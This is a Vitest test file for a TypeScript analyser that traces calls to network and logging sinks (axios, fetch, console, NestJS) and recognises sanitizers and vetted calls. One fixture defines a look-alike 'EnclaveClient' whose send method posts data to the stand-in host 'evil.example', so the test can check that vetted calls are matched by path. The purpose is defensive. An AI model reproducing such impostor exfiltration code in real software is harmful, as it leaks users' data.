import { describe, expect, it } from "vitest";
import { ts } from "ts-morph";
import { ModelProject } from "./support/model-project.js";

const MODELS = ["fetch", "axios", "console", "express", "node-crypto"];

describe("provenance: how code reaches axios", () => {
  const p = new ModelProject(
    {
      "/src/imports.ts": `
        import axios from "axios";
        import * as ax from "axios";
        import { default as named } from "axios";
        axios.post("https://a.example", {});
        ax.default.get("https://a.example");
        named.put("https://a.example", {});
        axios({ url: "https://a.example" });
      `,
      "/src/aliases.ts": `
        import axios from "axios";
        const post = axios.post;
        const { get } = axios;
        const http = axios;
        post("https://a.example", {});
        get("https://a.example");
        http.patch("https://a.example", {});
      `,
      "/src/commonjs.js": `
        const axios = require("axios");
        const { post } = require("axios");
        axios.delete("https://a.example");
        post("https://a.example", {});
      `,
      "/src/client.ts": `
        import axios, { type AxiosInstance } from "axios";
        export const BASE = "https://vault.enclave.eu.internal";
        export const client = axios.create({ baseURL: BASE });
        export function makeClient(): AxiosInstance {
          return axios.create({ baseURL: "https://crm.example" });
        }
        export class Holder {
          private api: AxiosInstance;
          constructor() { this.api = makeClient(); }
          send(x: unknown) { return this.api.post("/x", x); }
        }
        export async function connect(): Promise<AxiosInstance> { return axios.create({ baseURL: "https://crm.example" }); }
        export class Connected {
          private conn: Awaited<ReturnType<typeof connect>> | undefined;
          send(x: unknown) { return this.conn!.patch("/x", x); }
        }
      `,
      "/src/index.ts": `export * from "./client";\nexport { client as defaultClient } from "./client";\n`,
      "/src/uses.ts": `
        import { client, makeClient } from "./client";
        import { defaultClient } from "./index";
        client.post("/profile", {});
        const made = makeClient();
        made.put("/profile", {});
        defaultClient.get("/x");
      `,
    },
    { models: MODELS },
  );

  it("follows default, namespace and renamed default imports", () => {
    expect(p.describeCall("/src/imports.ts", "axios.post")).toBe("sink network axios#default.post");
    expect(p.describeCall("/src/imports.ts", "ax.default.get")).toBe("sink network axios#default.get");
    expect(p.describeCall("/src/imports.ts", "named.put")).toBe("sink network axios#default.put");
    expect(p.describeCall("/src/imports.ts", "axios")).toBe("sink network axios#default");
  });

  it("follows aliases: a member held in a const, destructured, or the whole module renamed", () => {
    expect(p.describeCall("/src/aliases.ts", "post")).toBe("sink network axios#default.post");
    expect(p.describeCall("/src/aliases.ts", "get")).toBe("sink network axios#default.get");
    expect(p.describeCall("/src/aliases.ts", "http.patch")).toBe("sink network axios#default.patch");
  });

  it("follows require, with and without destructuring", () => {
    expect(p.describeCall("/src/commonjs.js", "axios.delete")).toBe("sink network axios#default.delete");
    expect(p.describeCall("/src/commonjs.js", "post")).toBe("sink network axios#default.post");
  });

  it("follows instances across modules, factories and barrels, and carries their baseURL", () => {
    const call = p.question.callAt(p.call("/src/uses.ts", "client.post"));
    expect(call.kind === "sink" && call.sink.destination?.base?.map((b) => b.getText())).toEqual(["BASE"]);
    const made = p.question.callAt(p.call("/src/uses.ts", "made.put"));
    expect(made.kind === "sink" && made.sink.destination?.base?.map((b) => b.getText())).toEqual(['"https://crm.example"']);
    expect(p.describeCall("/src/uses.ts", "defaultClient.get")).toBe("sink network axios#default.get");
  });

  it("follows a class property typed with an axios type, also as what a factory's promise settles to", () => {
    expect(p.describeCall("/src/client.ts", "this.api.post")).toBe("sink network axios#default.post");
    expect(p.describeCall("/src/client.ts", "this.conn!.patch")).toBe("sink network axios#default.patch");
  });
});

describe("provenance: globals and what shadows them", () => {
  const p = new ModelProject(
    {
      "/src/global.ts": `
        export async function a(body: string) { await fetch("https://a.example", { method: "POST", body }); }
        export async function b() { await globalThis.fetch("https://a.example"); }
        export function c(x: unknown) { console.log("x", x); }
      `,
      "/src/local.ts": `
        function fetch(url: string) { return url.length; }
        export function d() { return fetch("https://a.example"); }
      `,
      "/src/param.ts": `
        export async function e(fetch: (u: string) => Promise<unknown>) { return fetch("https://a.example"); }
      `,
      "/src/imported.ts": `
        import fetch from "node-fetch";
        export function f() { return fetch("https://a.example"); }
      `,
    },
    { models: MODELS },
  );

  it("recognises global fetch and console", () => {
    expect(p.describeCall("/src/global.ts", "fetch")).toBe("sink network global#fetch");
    expect(p.describeCall("/src/global.ts", "globalThis.fetch")).toBe("sink network global#fetch");
    expect(p.describeCall("/src/global.ts", "console.log")).toBe("sink log global#console.log");
  });

  it("does not take a local function, a parameter or an import named fetch for the global", () => {
    expect(p.describeCall("/src/local.ts", "fetch")).toMatch(/^project \/src\/local.ts:/);
    expect(p.describeCall("/src/param.ts", "fetch")).toBe("unknown fetch");
    expect(p.describeCall("/src/imported.ts", "fetch")).toBe("unmodelled node-fetch node-fetch");
  });
});

describe("provenance: dependency injection", () => {
  const p = new ModelProject(
    {
      "/src/notify.service.ts": `
        import { Injectable } from "@nestjs/common";
        import { HttpService } from "@nestjs/axios";
        import axios, { AxiosInstance } from "axios";
        @Injectable()
        export class NotifyService {
          constructor(private readonly http: HttpService, private readonly api: AxiosInstance) {}
          send(phone: string) {
            this.http.post("https://sms.example/send", { phone });
            return this.api.get("/x");
          }
        }
      `,
    },
    {
      models: MODELS,
      extraModels: [
        {
          id: "nest-test",
          file: "test",
          sinks: [{ id: "nest-post", kind: "network", call: "@nestjs/axios#HttpService.post", arguments: [0, 1, 2] }],
          sources: [],
          sanitizers: [],
          instances: [],
          propagators: [],
        },
      ],
    },
  );

  it("resolves this.<param property> through the constructor parameter's declared type", () => {
    expect(p.describeCall("/src/notify.service.ts", "this.http.post")).toBe("sink network @nestjs/axios#HttpService.post");
    expect(p.describeCall("/src/notify.service.ts", "this.api.get")).toBe("sink network axios#default.get");
  });
});

describe("provenance: project functions", () => {
  const p = new ModelProject(
    {
      "/src/enclave.ts": `
        export class EnclaveClient { send(x: unknown) { return fetch("https://vault.enclave.eu.internal", { body: String(x) }); } }
      `,
      "/src/other/enclave.ts": `
        export class EnclaveClient { send(x: unknown) { return fetch("https://evil.example", { body: String(x) }); } }
      `,
      "/src/lib/util.js": `
        function redact(x) { return "***"; }
        module.exports = { redact };
      `,
      "/src/lib/barrel.ts": `export * from "./helpers";\n`,
      "/src/lib/helpers.ts": `export function format(x: unknown) { return String(x); }\nexport const arrow = (x: unknown) => x;\n`,
      "/src/uses.ts": `
        import { EnclaveClient } from "./enclave";
        import { EnclaveClient as Impostor } from "./other/enclave";
        import { format, arrow } from "@lib/barrel";
        const { redact } = require("./lib/util");
        const vetted = new EnclaveClient();
        const impostor = new Impostor();
        vetted.send(1);
        impostor.send(1);
        format(1);
        arrow(1);
        redact(1);
      `,
    },
    {
      models: MODELS,
      vettedCalls: ["src/enclave.ts#EnclaveClient.send"],
      sanitizers: ["src/lib/util.js#redact"],
      compilerOptions: { baseUrl: "/", paths: { "@lib/*": ["src/lib/*"] } },
    },
  );

  it("matches vetted calls by module path, not by class name", () => {
    expect(p.describeCall("/src/uses.ts", "vetted.send")).toBe("vetted EnclaveClient.send");
    expect(p.describeCall("/src/uses.ts", "impostor.send")).toMatch(/^project \/src\/other\/enclave.ts:/);
  });

  it("resolves functions through tsconfig paths, export *, and CommonJS require", () => {
    expect(p.describeCall("/src/uses.ts", "format")).toMatch(/^project \/src\/lib\/helpers.ts:/);
    expect(p.describeCall("/src/uses.ts", "arrow")).toMatch(/^project \/src\/lib\/helpers.ts:/);
    expect(p.describeCall("/src/uses.ts", "redact")).toBe("sanitizer redact");
  });

  it("says which declarations are vetted doors, including closures inside them", () => {
    const method = p.question.callAt(p.call("/src/enclave.ts", "fetch"));
    expect(method.kind).toBe("sink");
    expect(p.question.isVettedDeclaration(sendMethodOf(p.sourceFile("/src/enclave.ts")))).toBe(true);
    expect(p.question.isVettedDeclaration(sendMethodOf(p.sourceFile("/src/other/enclave.ts")))).toBe(false);
  });
});

describe("sanitizers", () => {
  const p = new ModelProject(
    {
      "/src/hash.ts": `
        import { createHash, createHmac } from "node:crypto";
        import * as crypto from "crypto";
        export const a = (phone: string) => createHash("sha256").update(phone).digest("hex");
        export const b = (phone: string) => crypto.createHmac("sha256", "k").update(phone).update("x").digest("hex");
        export const c = (phone: string) => phone.slice(0, 4);
      `,
    },
    { models: MODELS },
  );

  it("treats digests of hashes and HMACs as sanitizers, and slice as nothing special", () => {
    expect(p.describeCall("/src/hash.ts", 'createHash("sha256").update(phone).digest')).toBe("sanitizer crypto.createHash().digest");
    expect(p.describeCall("/src/hash.ts", 'crypto.createHmac("sha256", "k").update(phone).update("x").digest')).toBe(
      "sanitizer crypto.createHmac().digest",
    );
    expect(p.describeCall("/src/hash.ts", "phone.slice")).toBe("unknown phone.slice");
  });
});

describe("provenance: declaration files as a second opinion", () => {
  const files = {
    "/node_modules/@nestjs/core/index.d.ts": `export declare class ModuleRef { get<T>(type: new (...args: any[]) => T): T; }`,
    "/node_modules/@nestjs/axios/index.d.ts": `export declare class HttpService { post(url: string, data?: unknown): unknown; }`,
    "/src/lookup.ts": `
      import { ModuleRef } from "@nestjs/core";
      import { HttpService } from "@nestjs/axios";
      export function send(ref: ModuleRef, phone: string) {
        const http = ref.get(HttpService);
        return http.post("https://sms.example", { phone });
      }
    `,
  };
  const models = {
    models: ["axios"],
    extraModels: [
      {
        id: "nest-test",
        file: "test",
        sinks: [{ id: "nest-post", kind: "network" as const, call: "@nestjs/axios#HttpService.post", arguments: [0, 1] }],
        sources: [],
        sanitizers: [],
        instances: [],
        propagators: [],
      },
    ],
  };

  it("asks the checker where a callee is declared when syntax cannot settle it and the types are there", () => {
    const p = new ModelProject(files, models);
    expect(p.describeCall("/src/lookup.ts", "http.post")).toBe("sink network @nestjs/axios#HttpService.post");
  });

  it("does not guess without them", () => {
    const withoutTypes = Object.fromEntries(Object.entries(files).filter(([name]) => !name.startsWith("/node_modules/")));
    const p = new ModelProject(withoutTypes, models);
    expect(p.describeCall("/src/lookup.ts", "http.post")).toBe("unmodelled @nestjs/core @nestjs/core.ModuleRef.get().post");
  });
});

describe("provenance: names that shadow modelled ones", () => {
  const p = new ModelProject(
    {
      "/src/logger.ts": `export class Logger { log(message: string) { return message.length; } }`,
      "/src/service.ts": `
        import { Logger } from "./logger";
        import { Logger as NestLogger } from "@nestjs/common";
        export class Service {
          private readonly own = new Logger();
          private readonly nest = new NestLogger("Service");
          run(email: string) {
            this.own.log(email);
            this.nest.log(email);
          }
        }
      `,
      "/src/axios.ts": `
        const axios = { post: (url: string, body: unknown) => [url, body] };
        export function notReally(email: string) { return axios.post("https://x.example", { email }); }
      `,
    },
    { models: ["nestjs-logger", "axios"] },
  );

  it("tells a project class from the library class of the same name", () => {
    expect(p.describeCall("/src/service.ts", "this.own.log")).toMatch(/^project \/src\/logger.ts:/);
    expect(p.describeCall("/src/service.ts", "this.nest.log")).toBe("sink log @nestjs/common#Logger.log");
  });

  it("does not take a local object named axios for the library", () => {
    expect(p.describeCall("/src/axios.ts", "axios.post")).toMatch(/^project \/src\/axios.ts:/);
  });
});

/** The `send` method of the class `EnclaveClient` declared in `file`. */
function sendMethodOf(file: ts.SourceFile): ts.MethodDeclaration {
  const enclave = file.statements.find((s): s is ts.ClassDeclaration => ts.isClassDeclaration(s) && s.name?.text === "EnclaveClient");
  const send = enclave?.members.find((m): m is ts.MethodDeclaration => ts.isMethodDeclaration(m) && m.name.getText() === "send");
  if (!send) throw new Error(`no EnclaveClient.send in ${file.fileName}`);
  return send;
}
